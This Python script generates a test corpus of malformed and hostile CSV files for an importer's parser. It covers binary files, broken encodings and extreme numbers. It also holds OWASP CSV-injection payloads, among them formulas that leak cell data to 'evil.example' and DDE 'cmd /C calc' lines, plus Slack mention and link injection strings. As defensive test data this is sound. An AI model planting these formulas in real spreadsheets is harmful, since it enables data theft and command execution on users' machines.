"""Writes the hostile-input corpus: files people (or attackers) drop where a CSV is expected.

    .venv/bin/python tests/data/hostile/make_corpus.py

Deterministic: the same bytes on every run and machine (seeded randomness, fixed zip and gzip
timestamps, nothing compressed, so another zlib build cannot change a byte), and a test checks
that the committed files equal what ``build()`` makes. Each file is named for what it tests;
the large ones (a 1 MB single line, a 1 MB unclosed quote, a 1 MB cell) are made at test time
by ``build_large()`` so the repository stays small.
"""

from __future__ import annotations

import codecs
import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent

PRODUCTS_HEADER = "number;name;group;cost_price;sales_price"
PRODUCTS_OK = PRODUCTS_HEADER + "\n1001;Vasara;1;12,50;19,90\n1002;Saha;1;8;12\n"
CUSTOMERS_HEADER = "number;name;group;vat_zone;payment_terms;business_id;zip;city;country;email"
INVENTORY_HEADER = "date;product;location;quantity;cost_price;reason;description;batch;serial"
SUPPLIERS_HEADER = "number;name;group;vat_zone;payment_terms;iban;bic;address;city;country"

# Cells a spreadsheet would run as formulas (OWASP "CSV Injection" payloads and relatives).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1;"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=";A2);"//a")',
    '=WEBSERVICE("http://evil.example/")',
    "@SUM(1+1)",
    "+1+1",
)

Maker = Callable[[], bytes]


def _lines(*rows: str, end: str = "\n") -> bytes:
    return (end.join(rows) + end).encode("utf-8")


def _quote(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


# -- not text at all --------------------------------------------------------------------------


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()


def xlsx_workbook() -> bytes:
    """A minimal Office Open XML workbook: what "Save as Excel" makes of a register."""
    xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    sheet = (
        xml + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>number</t></is></c></row>'
        '<row r="2"><c r="A2"><v>1001</v></c></row></sheetData></worksheet>'
    )
    return _zip(
        {
            "[Content_Types].xml": (
                xml + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
                'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
            ).encode(),
            "xl/workbook.xml": (
                xml + '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                'main"><sheets><sheet name="Tuotteet" sheetId="1"/></sheets></workbook>'
            ).encode(),
            "xl/worksheets/sheet1.xml": sheet.encode(),
        }
    )


def png_image() -> bytes:
    """A real 2×2 PNG (a screenshot of the spreadsheet, say)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 2 for _ in range(2))
    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(raw, 0))
        + chunk(b"IEND", b"")
    )


def random_bytes() -> bytes:
    return random.Random(6).randbytes(4096)


def html_login_page() -> bytes:
    """What Slack answers a download without the files:read scope: 200 and a sign-in page."""
    return (
        b'<!DOCTYPE html>\n<html lang="en-US">\n<head><meta charset="utf-8">'
        b'<title>Slack</title></head>\n<body><form action="/signin" method="post">'
        b'<input name="email"><input name="password" type="password"></form></body>\n</html>\n'
    )


# -- empty and nearly empty -------------------------------------------------------------------


def ten_thousand_columns_header() -> bytes:
    extra = [f"extra_{i}" for i in range(10_000 - 5)]
    return _lines(PRODUCTS_HEADER + ";" + ";".join(extra), "1001;Vasara;1;1;1" + ";x" * len(extra))


def ten_thousand_fields_in_a_row() -> bytes:
    return _lines(PRODUCTS_HEADER, "1001;Vasara;1;1;1" + ";=1+1" * (10_000 - 5))


def header_repeated_mid_file() -> bytes:
    return _lines(
        PRODUCTS_HEADER, "1001;Vasara;1;1;1", PRODUCTS_HEADER, "1002;Saha;1;2;2", PRODUCTS_HEADER
    )


def long_cells() -> bytes:
    name = "Ä" * 1000
    return _lines(
        PRODUCTS_HEADER + ";description;unit",
        f"1001;{name};1;1;1;{'ö' * 1000};{'x' * 1000}",
        f"{'9' * 1000};B;1;1;1;d;kpl",
    )


def control_characters() -> bytes:
    controls = "".join(chr(c) for c in range(1, 32) if chr(c) not in "\t\n\r")
    return _lines(PRODUCTS_HEADER + ";description", f"1001;Va{controls}sara;1;1;1;x\x1b[31mred")


def control_characters_after_first_4k() -> bytes:
    filler = [f"{1000 + i};Tuote {i};1;1;1" for i in range(300)]
    return _lines(PRODUCTS_HEADER, *filler, "9999;Bell\x07\x08\x0b\x0c\x1f;1;1;1")


def nul_bytes_in_cells() -> bytes:
    return _lines(PRODUCTS_HEADER, "1001;Va\x00sara;1;1;1", "10\x0002;Saha;1;1\x00;1")


def nul_bytes_after_first_4k() -> bytes:
    filler = [f"{1000 + i};Tuote {i};1;1;1" for i in range(300)]
    return _lines(PRODUCTS_HEADER, *filler, "99\x0099;N\x00\x00L;1;1;1")


# -- encodings --------------------------------------------------------------------------------


def mixed_utf8_and_cp1252() -> bytes:
    head = _lines(PRODUCTS_HEADER, "1001;Sähköjohto;1;1;1")
    tail = "1002;Öljy € “lainaus”;1;1;1\n".encode("cp1252")
    return head + tail + "1003;Jäähdytin;1;1;1\n".encode()


def invalid_utf8_sequences() -> bytes:
    rows = [
        b"1001;overlong \xc0\xaf;1;1;1",
        b"1002;surrogate \xed\xa0\x80;1;1;1",
        b"1003;truncated \xe2\x82;1;1;1",
        b"1004;lone continuation \x80\x80;1;1;1",
        b"1005;beyond unicode \xf5\x80\x80\x80;1;1;1",
    ]
    return PRODUCTS_HEADER.encode() + b"\n" + b"\n".join(rows) + b"\n"


def double_bom() -> bytes:
    return codecs.BOM_UTF8 * 2 + PRODUCTS_OK.encode()


def utf8_bom_then_utf16() -> bytes:
    return codecs.BOM_UTF8 + PRODUCTS_OK.encode("utf-16-le")


def bom_mid_file() -> bytes:
    return _lines(PRODUCTS_HEADER, "\ufeff1001;Vasara;1;1;1", "1002;\ufeffSaha;1;1;1")


# -- numbers and identifiers ------------------------------------------------------------------


def huge_numbers() -> bytes:
    values = [
        "1e308",
        "1e309",
        "1.7976931348623157e308",
        "-1e308",
        "9" * 400,
        "0," + "0" * 400 + "1",
        "99999999999999999999999999999",
        "4e-324",
    ]
    rows = [f"{2000 + i};Iso {i};1;{v};{v}" for i, v in enumerate(values)]
    return _lines(PRODUCTS_HEADER, *rows)


def nan_and_infinity() -> bytes:
    values = ["NaN", "nan", "Infinity", "-Infinity", "inf", "-inf", "+inf", "∞", "1,#INF", "#N/A"]
    rows = [f"{3000 + i};Outo {i};1;{v};{v}" for i, v in enumerate(values)]
    return _lines(PRODUCTS_HEADER, *rows)


def negative_zero_and_signs() -> bytes:
    values = ["-0", "+0", "-0,00", "-0.0", "+-1", "--1", "++1", "- 1", "1-", "−1"]
    rows = [f"{4000 + i};Merkki {i};1;{v};0" for i, v in enumerate(values)]
    return _lines(PRODUCTS_HEADER, *rows)


def thousands_separators() -> bytes:
    values = [
        "12,345,678.90",
        "1.234.567,89",
        "1 234 567,89",
        "1\u00a0234\u00a0567,89",
        "1'234.50",
        "1_000",
        "1,234",
        "1.234",
        "12.345,678.90",
    ]
    rows = [f"{5000 + i};Luku {i};1;{_quote(v)};0" for i, v in enumerate(values)]
    return _lines(PRODUCTS_HEADER, *rows)


def huge_integers_in_references() -> bytes:
    big = "9" * 500
    return _lines(
        INVENTORY_HEADER,
        f"10.04.2024;{big};{big};{big};{big};Alkusaldo;;;",
        f"10.04.2024;1001;1;1e308;1;Alkusaldo;;;{big}",
    )


def arabic_indic_and_fullwidth_digits() -> bytes:
    return _lines(
        CUSTOMERS_HEADER,
        "١٢٣;Arabia Oy;١;١;١٤;٠٧٣٧٥٤٦-٢;٠٠١٠٠;Helsinki;FI;a@example.fi",
        "۱۲۴;Persia Oy;1;1;14;0737546-2;00100;Helsinki;FI;b@example.fi",
        "１２５;Zenkaku Oy;１;1;14;０７３７５４６－２;００１００;Helsinki;FI;c@example.fi",
        "१२६;Devanagari Oy;1;1;14;0737546-2;00100;Helsinki;FI;d@example.fi",
    )


def zero_width_characters() -> bytes:
    zw = "\u200b"
    return _lines(
        f"number{zw};name;gro\u200dup;cost_price\u2060;sales_price",
        f"1001{zw};Vasara;1;1;1",
        f"10{zw}02;Sa\u200cha;1{zw};1;1",
        f"{zw};{zw};{zw};{zw};{zw}",
    )


def rtl_text_and_emoji() -> bytes:
    return _lines(
        PRODUCTS_HEADER + ";description",
        "1001;مطرقة كبيرة;1;1;1;نص عربي",
        "1002;פטיש;1;1;1;עברית",
        "1003;Vasara 🔨👍🏽;1;1;1;👨‍👩‍👧‍👦 family",
        "1004;\u202egnp.exe;1;1;1;\u202e=1+1",
        "1005;Z̷̢̛a̸l̶g̵o̴;1;1;1;e\u0301\u0301\u0301",
        "1006;\U0010ffff\ue000;1;1;1;\ufffd",
    )


def bidi_override_in_number() -> bytes:
    return _lines(PRODUCTS_HEADER, "\u202e1001;Vasara;1;1;1", "\u200f1002\u200e;Saha;1;1;1")


def hostile_dates() -> bytes:
    dates = [
        "29.02.2023",
        "31.12.9999",
        "00.00.0000",
        "1.1.1",
        "'10.04.2024",
        "10.04.2024 12:00",
        "2024-04-10",
        "32.13.2024",
        "=TODAY()",
        "99.99.99999999",
    ]
    rows = [f"{d};1001;1;1;1;Alkusaldo;;;" for d in dates]
    return _lines(INVENTORY_HEADER, *rows)


# -- formula injection ------------------------------------------------------------------------


def formulas_everywhere_products() -> bytes:
    rows = [f"{6000 + i};{_quote(f)};1;1;1;{_quote(f)};{_quote(f)}" for i, f in enumerate(FORMULAS)]
    rows += [f"{_quote(f)};Nimi;{_quote(f)};{_quote(f)};1;x;kpl" for f in FORMULAS]
    return _lines(PRODUCTS_HEADER + ";description;unit", *rows)


# Formulas short enough for a product number (at most 25 characters) and distinct once trimmed.
SHORT_FORMULAS = ("=1+1", "+1+2", "-2+3", "@SUM(1+1)", "=A1", "\t=2+2", "\r=3+3", "-A1", "+B2")


def formulas_in_an_otherwise_valid_file() -> bytes:
    """Only warnings: the normalized copy is written, so it must escape every formula."""
    rows = [
        f"{_quote(short)};Tuote {i};1;1;1;{_quote(f)};{_quote(short)}"
        for i, (short, f) in enumerate(zip(SHORT_FORMULAS, FORMULAS, strict=False))
    ]
    return _lines(PRODUCTS_HEADER + ";description;unit", *rows)


def formulas_after_excel_apostrophe() -> bytes:
    """Excel's text marker `'` is dropped from codes: what is left must not become live."""
    rows = [f"{_quote(chr(39) + f)};Tuote {i};1;1;1;kpl" for i, f in enumerate(SHORT_FORMULAS)]
    return _lines(PRODUCTS_HEADER + ";unit", *rows)


def formulas_in_header() -> bytes:
    header = ";".join([PRODUCTS_HEADER, *(_quote(f) for f in FORMULAS)])
    return _lines(header, "1001;Vasara;1;1;1" + ";x" * len(FORMULAS))


def formulas_in_customers() -> bytes:
    rows = [
        f"{7000 + i};{_quote(f)};1;1;14;{_quote(f)};{_quote(f)};{_quote(f)};{_quote(f)};{_quote(f)}"
        for i, f in enumerate(FORMULAS)
    ]
    return _lines(CUSTOMERS_HEADER + ";address;language;vat_number", *(r + ";x;fi;" for r in rows))


def formulas_in_suppliers() -> bytes:
    rows = [
        f"{8000 + i};Toimittaja;1;1;30;{_quote(f)};{_quote(f)};{_quote(f)};{_quote(f)};FI"
        for i, f in enumerate(FORMULAS)
    ]
    return _lines(SUPPLIERS_HEADER, *rows)


def formulas_in_inventory() -> bytes:
    rows = [
        f"10.04.2024;1001;1;1;1;{_quote(f)};{_quote(f)};{_quote(f)};{_quote(f)}" for f in FORMULAS
    ]
    return _lines(INVENTORY_HEADER, *rows)


def formulas_as_extra_fields() -> bytes:
    rows = [f"{9000 + i};Tuote;1;1;1;{_quote(f)}" for i, f in enumerate(FORMULAS)]
    return _lines(PRODUCTS_HEADER, *rows)


def formulas_as_duplicate_numbers() -> bytes:
    rows = [f"{_quote(f)};Tuote;1;1;1" for f in FORMULAS for _ in range(2)]
    return _lines(PRODUCTS_HEADER, *rows)


def slack_control_sequences() -> bytes:
    """Text Slack would turn into a mention or a link if the bot echoed it unescaped."""
    return _lines(
        PRODUCTS_HEADER + ";<!channel>;description",
        "<!here>;<@U0ANN> &amp; co;1;1;1;x;<https://evil.example|Click me>",
        "<!channel>;`code` <#C0ACME>;x;1;1;x;<!subteam^S123>",
    )


# -- the corpus -------------------------------------------------------------------------------

CORPUS: dict[str, Maker] = {
    # not a CSV at all
    "binary_random_bytes.csv": random_bytes,
    "binary_nul_bytes_only.csv": lambda: b"\x00" * 1024,
    "zip_archive_named.csv": lambda: _zip({"products.csv": PRODUCTS_OK.encode()}),
    "xlsx_workbook_named.csv": xlsx_workbook,
    "png_image_named.csv": png_image,
    "pdf_document_named.csv": lambda: b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n",
    "gzip_compressed_csv_named.csv": lambda: gzip.compress(
        PRODUCTS_OK.encode(), compresslevel=0, mtime=0
    ),
    "old_xls_ole_workbook_named.csv": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512,
    "elf_executable_named.csv": lambda: b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00>\x00",
    "html_login_page_saved.csv": html_login_page,
    "html_login_page_after_bom_and_blank_lines.csv": lambda: (
        codecs.BOM_UTF8 + b"\r\n\r\n  " + html_login_page()
    ),
    "xml_spreadsheet_2003.csv": lambda: (
        b'<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
        b"<Worksheet><Table><Row><Cell><Data>number</Data></Cell></Row></Table></Worksheet>"
        b"</Workbook>\n"
    ),
    # empty and nearly empty
    "empty_zero_bytes.csv": lambda: b"",
    "bom_only_utf8.csv": lambda: codecs.BOM_UTF8,
    "bom_only_utf16le.csv": lambda: codecs.BOM_UTF16_LE,
    "bom_only_utf32le.csv": lambda: codecs.BOM_UTF32_LE,
    "only_blank_lines.csv": lambda: b"\n\n\r\n\r\n\n",
    "only_whitespace.csv": lambda: b"   \t \n \t\t\n    \r\n",
    "only_delimiters.csv": lambda: b";;;;\n;;;;\n;;;;\n",
    "only_quotes.csv": lambda: b'""\n""""\n"";""\n',
    "header_only_without_newline.csv": lambda: PRODUCTS_HEADER.encode(),
    "header_only_with_newline.csv": lambda: _lines(PRODUCTS_HEADER),
    "header_then_only_blank_lines.csv": lambda: _lines(PRODUCTS_HEADER, "", "", ";;;;", "  "),
    "blank_lines_before_header.csv": lambda: b"\n\n\n" + PRODUCTS_OK.encode(),
    # structure
    "single_column_no_delimiter.csv": lambda: _lines("number", "1001", "1002"),
    "unknown_register_header.csv": lambda: _lines("foo;bar;baz", "1;2;3"),
    "ambiguous_register_header.csv": lambda: _lines("number;name;group", "1;A;1"),
    "empty_header_cells.csv": lambda: _lines(";;" + PRODUCTS_HEADER + ";;", ";;1;A;1;1;1;;"),
    "trailing_delimiter_every_line.csv": lambda: _lines(
        PRODUCTS_HEADER + ";", "1001;A;1;1;1;", "1002;B;1;1;1;"
    ),
    "cr_only_line_endings.csv": lambda: PRODUCTS_OK.replace("\n", "\r").encode(),
    "mixed_line_endings.csv": lambda: (
        PRODUCTS_HEADER + "\r\n1001;A;1;1;1\n1002;B;1;1;1\r1003;C;1;1;1\r\n"
    ).encode(),
    "header_repeated_mid_file.csv": header_repeated_mid_file,
    "duplicate_header_names.csv": lambda: _lines(
        "number;name;name;Nimi;group;cost_price;cost_price;sales_price", "1;A;B;C;1;1;2;1"
    ),
    "ten_thousand_columns.csv": ten_thousand_columns_header,
    "ten_thousand_fields_in_one_row.csv": ten_thousand_fields_in_a_row,
    "rows_shorter_than_header.csv": lambda: _lines(PRODUCTS_HEADER, "1001", "1002;B", ";"),
    "unbalanced_quote_never_closed.csv": lambda: _lines(
        PRODUCTS_HEADER, '1001;"Vasara;1;1;1', "1002;Saha;1;1;1", "1003;Kirves;1;1;1"
    ),
    "unbalanced_quote_mid_cell.csv": lambda: _lines(
        PRODUCTS_HEADER, '1001;Va"sara;1;1;1', '1002;Saha";1;1;1', "1003;Kirves;1;1;1"
    ),
    "unbalanced_quote_in_header.csv": lambda: _lines(
        'number;"name;group;cost_price;sales_price', "1001;A;1;1;1"
    ),
    "garbage_after_closing_quote.csv": lambda: _lines(
        PRODUCTS_HEADER, '1001;"Vasara"x;1;1;1', '"1002"";Saha;1;1;1'
    ),
    "backslash_escaped_quotes.csv": lambda: _lines(
        PRODUCTS_HEADER, '1001;"Vasara \\"iso\\"";1;1;1', "1002;Saha\\;1;1;1;1"
    ),
    "quoted_line_breaks_in_cells.csv": lambda: _lines(
        PRODUCTS_HEADER, '1001;"Vasara\nrivi 2\r\nrivi 3";1;1;1', '1002;"\n\n\n";1;1;1'
    ),
    "mixed_semicolon_and_comma_delimiters.csv": lambda: _lines(
        PRODUCTS_HEADER, "1001,Vasara,1,1,1", "1002;Saha;1;12,50;1", "1003,Kirves;1,1;1"
    ),
    "pipe_delimited.csv": lambda: _lines(PRODUCTS_HEADER.replace(";", "|"), "1001|Vasara|1|1|1"),
    "long_cells_1000_chars.csv": long_cells,
    "long_header_cell.csv": lambda: _lines(PRODUCTS_HEADER + ";" + "h" * 5000, "1;A;1;1;1;x"),
    "control_characters_in_cells.csv": control_characters,
    "control_characters_after_first_4k.csv": control_characters_after_first_4k,
    "nul_bytes_in_cells.csv": nul_bytes_in_cells,
    "nul_bytes_after_first_4k.csv": nul_bytes_after_first_4k,
    "many_errors_over_the_issue_cap.csv": lambda: _lines(
        PRODUCTS_HEADER, *(f"x{i};;nimi;-{i};abc" for i in range(800))
    ),
    "same_number_two_thousand_times.csv": lambda: _lines(
        PRODUCTS_HEADER, *("1001;Vasara;1;1;1" for _ in range(2000))
    ),
    # encodings
    "utf16le_without_bom.csv": lambda: PRODUCTS_OK.encode("utf-16-le"),
    "utf16be_without_bom.csv": lambda: PRODUCTS_OK.encode("utf-16-be"),
    "utf16le_with_bom_tabs.csv": lambda: (
        codecs.BOM_UTF16_LE + PRODUCTS_OK.replace(";", "\t").encode("utf-16-le")
    ),
    "utf16le_odd_byte_count.csv": lambda: PRODUCTS_OK.encode("utf-16-le") + b"\x00",
    "utf32le_with_bom.csv": lambda: codecs.BOM_UTF32_LE + PRODUCTS_OK.encode("utf-32-le"),
    "mixed_encodings_utf8_and_cp1252.csv": mixed_utf8_and_cp1252,
    "invalid_utf8_sequences.csv": invalid_utf8_sequences,
    "double_utf8_bom.csv": double_bom,
    "utf8_bom_then_utf16_text.csv": utf8_bom_then_utf16,
    "bom_inside_cells.csv": bom_mid_file,
    "cp1252_finnish_excel.csv": lambda: (
        PRODUCTS_HEADER + "\r\n1001;Sähköjohto 3×1,5 mm²;1;12,50;19,90\r\n"
    ).encode("cp1252"),
    # numbers and identifiers
    "huge_numbers_1e308.csv": huge_numbers,
    "nan_and_infinity.csv": nan_and_infinity,
    "negative_zero_and_odd_signs.csv": negative_zero_and_signs,
    "thousands_separators_mixed.csv": thousands_separators,
    "huge_integers_in_references.csv": huge_integers_in_references,
    "y_tunnus_arabic_indic_and_fullwidth_digits_customers.csv": arabic_indic_and_fullwidth_digits,
    "zero_width_spaces.csv": zero_width_characters,
    "right_to_left_text_and_emoji.csv": rtl_text_and_emoji,
    "bidi_override_in_number.csv": bidi_override_in_number,
    "hostile_dates.csv": hostile_dates,
    # formula injection
    "formula_injection_products.csv": formulas_everywhere_products,
    "formula_injection_in_valid_file.csv": formulas_in_an_otherwise_valid_file,
    "formula_injection_after_excel_apostrophe.csv": formulas_after_excel_apostrophe,
    "formula_injection_in_header.csv": formulas_in_header,
    "formula_injection_customers.csv": formulas_in_customers,
    "formula_injection_suppliers.csv": formulas_in_suppliers,
    "formula_injection_inventory.csv": formulas_in_inventory,
    "formula_injection_in_extra_fields.csv": formulas_as_extra_fields,
    "formula_injection_duplicate_numbers.csv": formulas_as_duplicate_numbers,
    # Slack's own markup
    "slack_mentions_and_links_in_cells.csv": slack_control_sequences,
}

MEGABYTE = 1024 * 1024


def huge_single_line() -> bytes:
    """1 MB on one line: no line end at all, so the header never ends."""
    cell = "Vasara;"
    return (PRODUCTS_HEADER + ";" + cell * (MEGABYTE // len(cell))).encode()


def huge_unclosed_quote() -> bytes:
    """A quote opened in the first data row and never closed: the rest is one 1 MB cell."""
    rows = "".join(f"{1000 + i};Tuote {i};1;1;1\n" for i in range(MEGABYTE // 20))
    return _lines(PRODUCTS_HEADER, '1;"Vasara;1;1;1') + rows.encode()


def huge_cell_in_valid_row() -> bytes:
    return _lines(PRODUCTS_HEADER + ";description", "1001;Vasara;1;1;1;" + "x" * MEGABYTE)


LARGE: dict[str, Maker] = {
    "huge_single_line_1mb.csv": huge_single_line,
    "huge_unclosed_quote_1mb.csv": huge_unclosed_quote,
    "huge_cell_1mb.csv": huge_cell_in_valid_row,
}


def build() -> dict[str, bytes]:
    """The committed corpus: file name → bytes."""
    return {name: make() for name, make in CORPUS.items()}


def build_large() -> dict[str, bytes]:
    """The large files, made at test time."""
    return {name: make() for name, make in LARGE.items()}


def main() -> None:
    files = build()
    for old in HERE.iterdir():
        if old.suffix == ".csv" and old.name not in files:
            old.unlink()
    for name, data in files.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
